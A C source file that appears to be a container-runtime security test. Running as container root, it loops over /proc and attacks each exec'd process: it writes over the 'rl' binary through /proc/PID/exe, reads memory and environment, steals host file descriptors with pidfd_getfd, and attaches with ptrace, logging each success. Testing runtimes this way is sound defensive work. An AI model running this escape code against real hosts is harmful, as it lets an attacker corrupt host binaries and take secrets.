/* Root of a container looks for the moment in which an exec'd process is still rl: tries all that would let it in, until /stop is
   there. Says what it has got of processes that are rl, and how often it got into others, which shows that it can. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static long looks, entered;
static FILE *report;

static int is_rl(int pid) {
    char path[64], link[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length < 0) return 0;
    link[length] = 0;
    return length >= 3 && strcmp(link + length - 3, "/rl") == 0;
}

static void got(int pid, const char *what, const char *detail) {
    if (is_rl(pid)) fprintf(report, "GOT %s %s\n", what, detail);
    else entered++;
}

static void descriptors(int pid) {
    char path[64], name[512], link[4096];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    if (!dir) return;
    for (struct dirent *entry; (entry = readdir(dir));) {
        snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
        ssize_t length = readlink(name, link, sizeof link - 1);
        if (length < 0) continue;
        link[length] = 0;
        /* Only what belongs to the host's side has these in its name. */
        if (strstr(link, "/containers/") || strstr(link, "process.json") || strstr(link, "/data/"))
            fprintf(report, "GOT descriptor %s\n", link);
    }
    closedir(dir);
}

static void attack(int pid) {
    char path[64], buffer[8];
    looks++;
    if (is_rl(pid)) fprintf(report, "GOT link %d\n", pid);
    const char *files[] = {"exe", "mem", "environ", "maps", "auxv"};
    for (unsigned at = 0; at < sizeof files / sizeof *files; at++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[at]);
        int fd = open(path, at < 2 ? O_RDWR | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        got(pid, "file", files[at]);
        if (at == 0) {
            char own[64], link[4096];
            snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
            ssize_t length = readlink(own, link, sizeof link - 1);
            link[length < 0 ? 0 : length] = 0;
            if (length >= 3 && strcmp(link + length - 3, "/rl") == 0) {
                fprintf(report, "GOT write %s\n", link);
                if (write(fd, "overwritten", 11) != 11) fprintf(report, "no write\n");
            }
        }
        close(fd);
    }
    descriptors(pid);
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        for (int number = 0; number < 12; number++) {
            int fd = syscall(438 /* pidfd_getfd */, pidfd, number, 0);
            if (fd >= 0) {
                got(pid, "pidfd_getfd", "");
                close(fd);
            }
        }
        close(pidfd);
    }
    struct iovec local = {buffer, sizeof buffer}, remote = {(void *)0x400000, sizeof buffer};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0) got(pid, "process_vm_readv", "");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        got(pid, "ptrace", "");
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
            int status;
            if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
}

int main(void) {
    report = fopen("/report", "w");
    int self = getpid();
    while (access("/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = isdigit((unsigned char)*entry->d_name) ? atoi(entry->d_name) : 0;
            if (pid > 0 && pid != self) attack(pid);
        }
        closedir(proc);
    }
    fprintf(report, "looks %ld entered %ld\n", looks, entered);
    fclose(report);
    return close(open("/done", O_CREAT | O_WRONLY, 0600));
}
